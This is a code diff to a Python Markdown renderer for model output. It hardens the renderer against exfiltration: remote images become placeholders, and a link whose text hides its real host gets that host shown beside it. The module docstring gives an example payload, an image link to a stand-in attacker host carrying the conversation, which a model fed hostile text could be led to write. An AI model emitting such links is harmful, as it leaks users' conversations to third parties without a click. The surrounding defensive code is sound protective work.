@@ -3,6 +3,11 @@
 Rendering happens on the server so the pages need no Markdown or highlighting code.
 Everything passes through nh3, whatever markdown-it produced: the text comes from a
 model, and a model can be told to write anything.
+
+A model fed hostile text can write `![](https://attacker/?q=<the conversation>)`: an image
+the browser fetches as the answer renders leaks the conversation without a click. So a remote
+image becomes a placeholder naming its host (the page loads it on request, see messages.js),
+and a link whose text is not its own address shows the real host beside it.
 """
 
 from __future__ import annotations
@@ -10,6 +15,7 @@ from __future__ import annotations
 import html
 import re
 from functools import lru_cache
+from urllib.parse import urlsplit
 
 import nh3
 from markdown_it import MarkdownIt
@@ -26,19 +32,40 @@ _ATTRIBUTES = {
     "ol": {"start"},
     "pre": {"class"},
     "code": {"class"},
-    "span": {"class"},
+    "span": {"class", "title", "data-src", "data-host", "data-alt"},
 }
 _LINK_SCHEMES = ("http:", "https:", "mailto:")
-_IMAGE_SCHEMES = ("http:", "https:", "data:image/")
+_IMAGE_SCHEMES = ("data:image/",)
+"""What an `<img>` may load by itself; a remote image is a placeholder's `data-src`."""
+_REMOTE_SCHEMES = ("http:", "https:")
+REMOTE_IMAGE_CLASS = "remote-image"
+LINK_HOST_CLASS = "link-host"
 
 
 def _allow_url(tag: str, attribute: str, value: str) -> str | None:
-    """Links may go to http, https and mailto; images may come from http, https and data."""
+    """Links may go to http, https and mailto; images load only `data:image/`; a placeholder
+    names an http or https image for the page to load on request."""
     if attribute == "href":
         return value if value.strip().lower().startswith(_LINK_SCHEMES) else None
     if attribute == "src":
         return value if value.strip().lower().startswith(_IMAGE_SCHEMES) else None
+    if attribute == "data-src":
+        return value if value.strip().lower().startswith(_REMOTE_SCHEMES) else None
     return value
+
+
+def url_host(url: str) -> str | None:
+    """The host (with a port if one is given) a URL really goes to, without any `user@`;
+    markdown-it has already written an international name in punycode, so look-alikes show."""
+    try:
+        parts = urlsplit(url.strip())
+        host, port = parts.hostname, parts.port
+    except ValueError:
+        return None
+    if not host:
+        return None
+    host = f"[{host}]" if ":" in host else host
+    return f"{host}:{port}" if port is not None else host
 
 
 # A table column's alignment (`|:-:|`): markdown-it writes an inline style, which the page's
@@ -54,7 +81,7 @@ _CLEANER = nh3.Cleaner(
     url_schemes={"http", "https", "mailto", "data"},
     url_relative="deny",
     set_tag_attribute_values={"a": {"target": "_blank"}},
-    link_rel="noopener noreferrer",
+    link_rel="noopener noreferrer nofollow",
 )
 
 
@@ -87,7 +114,44 @@ def _highlight(code: str, language: str, _attrs: str) -> str:
     return f'<pre class="{HIGHLIGHT_CLASS}"><code{code_class}>{body}</code></pre>'
 
 
+def _image(self, tokens, idx, options, env) -> str:
+    """A remote image as an inert placeholder naming its host; `data:` images as they are."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    host = url_host(src) if src.lower().startswith(_REMOTE_SCHEMES) else None
+    if host is None:
+        return self.image(tokens, idx, options, env)
+    alt = self.renderInlineAsText(token.children or [], options, env)
+    attrs = {"class": REMOTE_IMAGE_CLASS, "data-src": src, "data-host": host, "data-alt": alt, "title": src}
+    quoted = " ".join(f'{name}="{html.escape(value)}"' for name, value in attrs.items())
+    label = f"Image from {host} (not loaded)" + (f": {alt}" if alt else "")
+    return f"<span {quoted}>{html.escape(label)}</span>"
+
+
+def _link_close(self, tokens, idx, options, env) -> str:
+    """After a link whose text is not its own address, the host it really goes to."""
+    start = idx
+    while start > 0 and tokens[start].type != "link_open":
+        start -= 1
+    href = str(tokens[start].attrGet("href") or "")
+    text = "".join(t.content for t in tokens[start + 1 : idx] if t.type in ("text", "code_inline")).strip()
+    if href.lower().startswith("mailto:"):
+        target: str | None = href[len("mailto:") :]
+        shown_target = text.lower().removeprefix("mailto:")
+        same = shown_target == target.lower()
+    else:
+        target = url_host(href)
+        shown = text if "://" in text else f"http://{text}"
+        same = bool(text) and not any(c.isspace() for c in text) and url_host(shown) == target
+    closing = self.renderToken(tokens, idx, options, env)
+    if same or not target:
+        return closing
+    return f'{closing}<span class="{LINK_HOST_CLASS}"> ({html.escape(target)})</span>'
+
+
 _MARKDOWN = MarkdownIt("commonmark", {"html": False, "highlight": _highlight}).enable(["table", "strikethrough"])
+_MARKDOWN.add_render_rule("image", _image)
+_MARKDOWN.add_render_rule("link_close", _link_close)
 
 
 def render_markdown(text: str) -> str:
